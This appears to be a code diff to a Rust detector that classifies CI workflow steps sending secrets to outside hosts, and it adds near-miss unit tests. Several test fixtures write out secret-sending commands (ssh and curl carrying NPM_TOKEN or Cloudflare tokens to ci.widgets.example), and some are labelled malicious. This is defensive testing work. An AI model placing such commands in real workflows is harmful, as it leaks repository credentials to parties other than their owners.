@@ -162,7 +162,7 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
         .all(|(delivery, _)| SHIPPING.contains(&delivery.client.as_str()));
     if shipped
         && !signals.contains(&Signal::SinglePurpose)
-        && !names.iter().any(|name| opens_publishing(name))
+        && !names.iter().any(|name| opens_publishing(name) && !fetches_by_git(name))
     {
         // Settings for the owner's own server, by a login that the server itself must have given.
         signals.remove(&Signal::LabelledSecrets);
@@ -185,6 +185,9 @@ fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
     {
         signals.insert(Signal::UnrelatedSecrets);
     }
+    if shipped && evidence.holds_machine_key(&group) {
+        signals.insert(Signal::OwnKey);
+    }
     let scheme =
         place.url.as_ref().and_then(|url| url.unescaped().split_once("://")).map_or("", |(scheme, _)| scheme);
     if !payload && place.class == Class::Unknown && names.iter().any(|name| resembles(name, host, scheme)) {
@@ -203,6 +206,11 @@ const SHIPPING: &[&str] = &["ssh", "scp", "sftp", "rsync", "lftp", "ftp", "mosh"
 fn opens_publishing(name: &str) -> bool {
     crate::services::of_secret(name)
         .is_some_and(|service| service.publishes && service.name != "docker-hub" || service.name == "github")
+}
+
+/// Whether it is a token by which a server fetches the code that it runs.
+fn fetches_by_git(name: &str) -> bool {
+    crate::services::of_secret(name).is_some_and(|service| service.name == "github")
 }
 
 /// A chat host whose address holds the credential of the chat itself, and whose message holds no more than the name of
@@ -326,7 +334,11 @@ fn in_login_position(url: &str, names: &BTreeSet<String>) -> bool {
         let parameter = before.rsplit(['?', '&', ';']).next().unwrap_or("").to_ascii_lowercase();
         match parameter.strip_suffix('=').filter(|_| before.contains('?')) {
             Some(parameter) => PARAMETERS.iter().any(|known| parameter.ends_with(known)),
-            None => crate::services::words(name).iter().any(|word| ADDRESSES.contains(&word.as_str())),
+            None => {
+                let host = crate::destination::of_address(&crate::flow::value::Value::text(url)).host;
+                crate::services::words(name).iter().any(|word| ADDRESSES.contains(&word.as_str()))
+                    || host.is_some_and(|host| resembles(name, &host, ""))
+            }
         }
     })
 }
@@ -483,6 +495,38 @@ mod tests {
             Verdict::Malicious,
             &["BOT_TOKEN", "DB_PASSWORD"],
             &["api.telegram.org"],
+        );
+    }
+
+    /// Near miss: what a server gets from a job that holds the key to it, a registry's token among it.
+    #[test]
+    fn a_machine_that_the_owners_key_opens() {
+        let steps = |key: &str| {
+            format!(
+                "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n{key}      - run: ssh deploy@ci.widgets.example 'NPM_TOKEN=${{{{ secrets.NPM_TOKEN }}}} npm ci'\n"
+            )
+        };
+        let key = "      - run: echo '${{ secrets.SSH_KEY }}' > ~/.ssh/id_rsa\n";
+        let (names, places) = (&["NPM_TOKEN"], &["ci.widgets.example"]);
+        check("secret-to-host", &steps(key), Verdict::Suspicious, names, places);
+        // Evasion: a login of the thief's own.
+        check("secret-to-host", &steps(""), Verdict::Malicious, names, places);
+    }
+
+    /// Near miss: a door of the owner's own hosts that somebody else keeps.
+    #[test]
+    fn a_gate_before_an_own_host() {
+        sent(
+            "curl -H 'CF-Access-Client-Id: ${{ secrets.CF_ACCESS_CLIENT_ID }}' -H 'CF-Access-Client-Secret: ${{ secrets.CF_ACCESS_CLIENT_SECRET }}' https://ci.widgets.example/",
+            Verdict::Exposed,
+            &["CF_ACCESS_CLIENT_ID", "CF_ACCESS_CLIENT_SECRET"],
+            "ci.widgets.example",
+        );
+        sent(
+            "curl -H 'X: ${{ secrets.CF_API_TOKEN }}' https://ci.widgets.example/",
+            Verdict::Malicious,
+            &["CF_API_TOKEN"],
+            "ci.widgets.example",
         );
     }
 
